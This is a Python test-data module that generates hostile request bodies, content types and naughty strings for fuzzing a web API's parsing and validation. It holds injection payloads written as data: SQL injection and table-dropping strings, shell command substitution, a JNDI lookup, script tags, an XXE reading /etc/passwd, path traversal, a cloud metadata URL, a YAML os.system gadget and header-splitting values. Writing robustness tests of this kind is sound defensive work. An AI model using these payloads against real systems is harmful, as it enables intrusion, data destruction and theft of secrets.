# ruff: noqa: RUF001 - what looks like something else is what this is about
"""Hostile input: bodies that are not JSON, JSON of the wrong type, and naughty strings in every place.

It is modelled on JSON test suites and lists of naughty strings. `bodies()` returns some thousand, and so does
`places()`: the strings as values of a query parameter and of a header.
"""

import gzip
import json
from collections.abc import Iterator
from typing import NamedTuple
from urllib.parse import quote

JSON = "application/json"

FIELDS = (
    *("email", "password", "new_password", "current_password", "first_name", "last_name", "refresh", "token", "uid"),
    *("title", "body", "roles", "handle_hash", "device", "address", "id", "seen"),
)
"""Member names of all endpoints together."""

GOOD = {
    "email": "honest@example.org",
    "password": "Tr0ub4dor&3x",
    "new_password": "Tr0ub4dor&3x!",
    "current_password": "Tr0ub4dor&3x",
    "title": "A title",
    "body": "A body",
}


class Body(NamedTuple):
    """Return the body."""

    name: str
    content_type: str
    data: bytes


class Place(NamedTuple):
    """The part of a request that carries a naughty string: a query parameter or a header value."""

    name: str
    query: str
    headers: dict[str, str]


QUERY = ("page", "page_size", "q", "owner", "last_event_id", "ticket", "")
"""Query parameters of all endpoints; no endpoint reads the last one."""
HEADERS = (
    *("Accept", "Accept-Language", "Authorization", "Cookie", "Forwarded", "If-None-Match", "Last-Event-ID"),
    *("Origin", "Traceparent", "User-Agent", "X-Forwarded-For", "X-Identity", "X-Peer", "X-Refresh-Token"),
    *("X-Request-Id", "X-Requested-With"),
)

STRINGS = (
    *(
        "",
        " ",
        "\t",
        "\u00a0",
        "\u3000",
        "\u200b",
        "\ufeff",
        "\u2028",
        "\u2029",
        "\0",
        "a\0b",
        "\x01",
        "\x1b[31m",
        "\x7f",
        "\x85",
        "\ufffe",
        "\uffff",
    ),
    *(
        "null",
        "undefined",
        "None",
        "true",
        "NaN",
        "Infinity",
        "-1",
        "0",
        "1e309",
        "0x10",
        "1_000",
        "１２",
        "٣",
        "1/0",
        "[]",
        "{}",
        "\\",
        '"',
        "'",
        "`",
    ),
    *(
        "' OR '1'='1",
        "'; DROP TABLE users;--",
        '" OR ""="',
        "1; SELECT pg_sleep(9)",
        "%' LIKE '%",
        "_%",
        "\\'; --",
        "admin'--",
        "$1",
        ":name",
        "?",
    ),
    *(
        "{{7*7}}",
        "{% debug %}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{0.__class__}",
        "%s%s%s%n",
        "%(x)s",
        "{",
        "}",
        "${jndi:ldap://x/a}",
        "$(id)",
        "`id`",
        "|id",
    ),
    *(
        "<script>alert(1)</script>",
        "<img src=x onerror=a>",
        "javascript:alert(1)",
        "<!--",
        "]]>",
        "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
        "&lt;",
        "&#0;",
    ),
    *(
        "../../etc/passwd",
        "..\\..\\windows",
        "/dev/null",
        "file:///etc/passwd",
        "C:\\",
        "CON",
        "%2e%2e%2f",
        "%00",
        "%",
        "http://169.254.169.254/",
    ),
    *(
        "a\r\nX-Injected: 1",
        "a\nb",
        "a\r",
        "a\r\n\r\n<html>",
        "\u010a\u010d",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "@SUM(1)",
        "*)(uid=*",
        "__proto__",
        "constructor",
    ),
    *(
        "\u202eevil\u202c",
        "\u2066a\u2069",
        "ﷺ",
        "العربية",
        "עברית",
        "हिन्दी",
        "日本語",
        "𝕬𝖇𝖈",
        "ⅷ",
        "ﬀ",
        "ß",
        "ẞ",
        "İ",
        "ı",
        "ſ",
        "K",
        "Ａ",
        "é",
        "e\u0301",
        "Z͑ͫ̓ͪ̂ͫ̽͏̴̙",
        "👩‍👩‍👧‍👦",
        "🏳️‍🌈",
        "\U0010ffff",
        "\U000e0001",
    ),
    *(
        "a@b",
        "@",
        "a@",
        "@b.c",
        "a@b@c.d",
        "a b@c.d",
        "a@b..c",
        "a@[127.0.0.1]",
        '"a b"@c.d',
        "a@b.c\n",
        "a@b.c,d@e.f",
        "a@xn--",
        "a@-.c",
        "ä@ö.ü",
        "a@" + "b." * 200 + "c",
    ),
    *(
        "a" * 255,
        "a" * 5_000,
        "é" * 3_000,
        "\U0001f4a9" * 2_000,
        "a" * 12_000,
        "\u0301" * 500,
        " " * 3_000,
        "9" * 4_500,
        "Bearer x",
        "eyJhbGciOiJub25lIn0.e30.",
    ),
    *(
        "a.b.c",
        "..",
        ".",
        "...",
        "e30.e30.e30",
        "00000000-0000-0000-0000-000000000000",
        "{00000000-0000-0000-0000-000000000000}",
        "self",
        "me",
        "*",
    ),
)

VALUES = (
    *(
        "null",
        "true",
        "false",
        "0",
        "-0",
        "1",
        "-1",
        "1.5",
        "1e1",
        "1E400",
        "-1e400",
        "1e-400",
        "9007199254740993",
        "9" * 400,
        "-" + "9" * 400,
        "0.1e1",
    ),
    *(
        "NaN",
        "Infinity",
        "-Infinity",
        "nan",
        "01",
        "1.",
        ".5",
        "+1",
        "0x1",
        "1_0",
        "--1",
        "1e",
        "TRUE",
        "None",
        "undefined",
        "'a'",
        "a",
        "`a`",
    ),
    *(
        "[]",
        "[[]]",
        "[null]",
        '["a"]',
        "[1,2,3]",
        "{}",
        '{"a":1}',
        '{"$ne":null}',
        '{"__proto__":{"a":1}}',
        '{"":""}',
        '[{"a":[{"b":[]}]}]',
        '{"a":1,"a":2}',
    ),
    *(
        "[" * 50 + "]" * 50,
        "[" * 99 + "]" * 99,
        "[" * 150 + "]" * 150,
        '{"a":' * 90 + "1" + "}" * 90,
        '{"a":' * 500 + "1" + "}" * 500,
        "[" * 3_000,
    ),
    *(
        r'"\u0000"',
        r'"\ud800"',
        r'"\udc00"',
        r'"\udc00\ud800"',
        r'"\ud83d\ude00"',
        r'"\uD800a"',
        r'"\u00"',
        r'"\x41"',
        r'"\u{41}"',
        r'"\/"',
        r'"\b\f"',
        r'"\""',
        '"\\"',
    ),
    *(
        '"a\nb"',
        '"a\tb"',
        '"\x00"',
        '"\x1f"',
        '"a',
        'a"',
        '""a"',
        '"a" "b"',
        "[1,]",
        "[,1]",
        '{"a":1,}',
        "{a:1}",
        "{'a':1}",
        '{"a"}',
        '{"a":}',
        "{1:2}",
        "[1 2]",
        "// a\n1",
        "/* a */ 1",
        "# a\n1",
    ),
)

RAW = {
    "nothing": b"",
    "spaces": b" \r\n\t",
    "a form feed": b"\x0c{}",
    "a byte order mark": b"\xef\xbb\xbf{}",
    "UTF-16": '{"email":"a"}'.encode("utf-16"),
    "UTF-16 LE": '{"email":"a"}'.encode("utf-16-le"),
    "UTF-16 BE": '{"email":"a"}'.encode("utf-16-be"),
    "UTF-32": '{"email":"a"}'.encode("utf-32"),
    "UTF-7": b'{"email":"+AGE-"}',
    "Latin-1": b'{"email":"\xe9"}',
    "overlong /": b'{"email":"\xc0\xaf"}',
    "overlong NUL": b'{"email":"\xc0\x80"}',
    "overlong quote": b'{"email":"\xe0\x80\xa2"}',
    "a raw surrogate": b'{"email":"\xed\xa0\x80"}',
    "a raw surrogate pair": b'{"email":"\xed\xa0\xbd\xed\xb8\x80"}',
    "beyond Unicode": b'{"email":"\xf4\x90\x80\x80"}',
    "half a character": b'{"email":"\xf0\x9f\x98"}',
    "a lone continuation": b'{"email":"\x80"}',
    "0xff": b"\xff",
    "NUL alone": b"\0",
    "NUL behind": b"{}\0",
    "two objects": b"{}{}",
    "two lines": b'{"email":"a"}\n{"email":"b"}',
    "a comment": b'/**/{"email":"a"}',
    "a trailing comma": b'{"email":"a",}',
    "a missing comma": b'{"email":"a" "password":"b"}',
    "a missing colon": b'{"email" "a"}',
    "a missing brace": b'{"email":"a"',
    "a brace too many": b'{"email":"a"}}',
    "a bracket for a brace": b'{"email":"a"]',
    "single quotes": b"{'email':'a'}",
    "no quotes": b"{email:a}",
    "a form": b"email=a%40b.c&password=x",
    "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "YAML": b"!!python/object/apply:os.system ['id']",
    "a pickle": b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94.",
    "compressed": gzip.compress(b'{"email":"a"}'),
    "CBOR": b"\xa1eemailaa",
    "MessagePack": b"\x81\xa5email\xa1a",
    "multipart": b'--x\r\nContent-Disposition: form-data; name="email"\r\n\r\na\r\n--x--\r\n',
    "a thousand members": json.dumps({str(number): number for number in range(1_000)}).encode(),
    "a long name": json.dumps({"a" * 10_000: 1}).encode(),
    "a nameless member": b'{"":1}',
    "a name that is NUL": b'{"\\u0000":1}',
    "a name that is a lone surrogate": b'{"\\ud800":1}',
    "names that differ by case": b'{"Email":"a","EMAIL":"b"}',
    "dunder names": b'{"__class__":1,"__init__":2,"__proto__":{},"constructor":{}}',
    "names of settings": b'{"is_staff":true,"is_superuser":true,"roles":["staff"],"id":1,"is_active":true,"sub":"x"}',
    "100 levels": b"[" * 100 + b"]" * 100,
    "100,000 levels": b"[" * 100_000,
    "100,000 levels of objects": b'{"a":' * 100_000,
    "a number of 100,000 digits": b"9" * 100_000,
    "an exponent of 100,000 digits": b"1e" + b"9" * 100_000,
}

CONTENT_TYPES = (
    *(
        "",
        "text/plain",
        "text/html",
        "text/xml",
        "application/xml",
        "application/x-www-form-urlencoded",
        "multipart/form-data",
        "multipart/form-data; boundary=x",
    ),
    *(
        "application/json; charset=utf-16",
        "application/json; charset=latin-1",
        "application/json; charset=nonsense",
        "application/json; charset=",
        "APPLICATION/JSON",
    ),
    *(
        "application/json;",
        "application/json, text/plain",
        "application/jsonx",
        "application/problem+json",
        "application/vnd.api+json",
        "application/merge-patch+json",
    ),
    *(
        "application/json; boundary=x",
        "json",
        "/",
        "*/*",
        "application/",
        "application/octet-stream",
        "application/cbor",
        "application/json\xff",
        "a" * 2_000,
        "application/json; a=" + "b" * 1_000,
    ),
)


_NO_LINE_ENDS = dict.fromkeys(map(ord, "\0\r\n"))


def bodies() -> list[Body]:
    """Return all bodies, without duplicates."""
    return [*_raw(), *_values(), *_strings(), *_content_types()]


def places() -> list[Place]:
    """Return all places, without duplicates. In headers the strings have no line ends."""
    return [*_queries(), *_headers()]


def _queries() -> Iterator[Place]:
    for text in STRINGS:
        value = quote(text[:1_000], safe="", errors="surrogatepass")
        for name in QUERY:
            yield Place(f"?{name}={text[:40]!r}", f"{name}={value}" if name else value, {})


def _headers() -> Iterator[Place]:
    seen = set()
    for text in STRINGS:
        value = text[:1_000].translate(_NO_LINE_ENDS).encode("utf-8", "surrogatepass").decode("latin-1").strip()
        if value and value not in seen:
            seen.add(value)
            yield from (Place(f"{name}: {value[:40]!r}", "", {name: value}) for name in HEADERS)


def _raw() -> Iterator[Body]:
    for name, data in RAW.items():
        yield Body(name, JSON, data)


def _values() -> Iterator[Body]:
    for value in VALUES:
        yield Body(f"alone {value[:40]!r}", JSON, _encoded(value))
        for field in FIELDS:
            yield Body(f"{field} {value[:40]!r}", JSON, _with(field, value))


def _strings() -> Iterator[Body]:
    for text in STRINGS:
        every = dict.fromkeys(FIELDS, text)
        yield Body(f"every field {text[:40]!r}", JSON, json.dumps(every).encode())
        for field in FIELDS:
            yield Body(
                f"{field} {text[:40]!r}", JSON, _with(field, json.dumps(text, ensure_ascii=len(text) % 2 == 0))
            )


def _content_types() -> Iterator[Body]:
    for content_type in CONTENT_TYPES:
        for data in (json.dumps(GOOD).encode(), b"email=a", b"", b"\xff\0"):
            yield Body(f"as {content_type[:40]!r} {data[:9]!r}", content_type, data)


def _with(field: str, value: str) -> bytes:
    others = ",".join(f"{json.dumps(name)}:{json.dumps(good)}" for name, good in GOOD.items() if name != field)
    return _encoded(f"{{{json.dumps(field)}:{value},{others}}}")


def _encoded(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")
